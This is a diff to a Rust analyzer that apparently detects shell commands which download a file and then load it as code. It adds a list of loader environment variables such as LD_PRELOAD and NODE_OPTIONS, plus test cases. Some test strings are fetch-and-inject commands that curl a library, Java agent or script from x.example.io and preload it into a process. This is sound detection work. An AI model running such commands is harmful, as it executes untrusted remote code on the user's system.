@@ -157,6 +157,24 @@ pub(crate) const LOADERS: &[Loader] = &[
     },
 ];
 
+/// Environment variables whose value names code that the programs of the command load:
+/// `LD_PRELOAD`, `LD_AUDIT` (ld.so(8): shared objects loaded before all others),
+/// `DYLD_INSERT_LIBRARIES` (dyld(1)), `JAVA_TOOL_OPTIONS`, `JDK_JAVA_OPTIONS`, `_JAVA_OPTIONS`
+/// (JDK tool docs: options every JVM started reads, `-javaagent:F`), `MAVEN_OPTS`,
+/// `GRADLE_OPTS` (the JVM options of Maven's and Gradle's launchers), `NODE_OPTIONS` (Node.js
+/// CLI docs: `--require F`, `--import F`).
+pub(crate) const LOADER_VARIABLES: &[&str] = &[
+    "LD_PRELOAD",
+    "LD_AUDIT",
+    "DYLD_INSERT_LIBRARIES",
+    "JAVA_TOOL_OPTIONS",
+    "JDK_JAVA_OPTIONS",
+    "_JAVA_OPTIONS",
+    "MAVEN_OPTS",
+    "GRADLE_OPTS",
+    "NODE_OPTIONS",
+];
+
 /// Package installers that run a local package file's own scripts when installing it, with the
 /// words that make the command an install (any one of them among the arguments): Debian
 /// maintainer scripts (dpkg(1) `-i`/`--install`/`--unpack`; apt(8) `install ./F.deb`),
@@ -454,6 +472,19 @@ pub(crate) fn observe(a: &mut Analyzer, name: &str, inv: &Inv, had: usize) {
             operand_seen = true;
         }
     }
+    // Shape 1 through the environment: a variable whose value names code every program (or
+    // every JVM or Node process) of the command loads.
+    for (var, val) in &inv.env {
+        if !LOADER_VARIABLES.contains(&var.as_str()) {
+            continue;
+        }
+        for word in val.text.split([' ', '\t']).filter(|w| !w.is_empty()) {
+            if let Some(src) = fetched_operand(a, inv, &Arg::lit(word)) {
+                a.remote_exec("downloaded_file", name, Some(src), &inv.evidence);
+                return;
+            }
+        }
+    }
     // Shape 1: a downloaded file handed to a loader, an installer or a code option.
     let installs = INSTALLERS.iter().any(|(p, words)| {
         *p == prog
@@ -635,6 +666,9 @@ mod tests {
             "curl -o hook.cjs https://x.example.io/h.cjs && node --require=./hook.cjs server.js",
             "curl -o hook.cjs https://x.example.io/h.cjs && node -r ./hook.cjs server.js",
             "curl -so init.gradle https://x.example.io/i.gradle && ./gradlew --init-script init.gradle build",
+            "curl -so /tmp/l.so https://x.example.io/l.so && LD_PRELOAD=/tmp/l.so ls",
+            "curl -so /tmp/ag.jar https://x.example.io/ag.jar && JAVA_TOOL_OPTIONS=\"-javaagent:/tmp/ag.jar\" mvn test",
+            "curl -so /tmp/h.js https://x.example.io/h.js && NODE_OPTIONS='--require /tmp/h.js' npm test",
         ] {
             assert!(runs(cmd), "{cmd}");
         }
@@ -657,6 +691,8 @@ mod tests {
             "curl -o data.csv https://x.example.io/d.csv && java -jar target/etl.jar data.csv && false",
             "node -r dotenv/config server.js",
             "./gradlew --init-script ci/init.gradle build",
+            "curl -so /tmp/data.json https://x.example.io/d && NODE_OPTIONS=--max-old-space-size=4096 node build.js /tmp/data.json",
+            "LD_PRELOAD=/usr/lib/libjemalloc.so ./server",
         ] {
             let f = analyze(cmd, &ctx());
             if cmd.ends_with("&& false") {
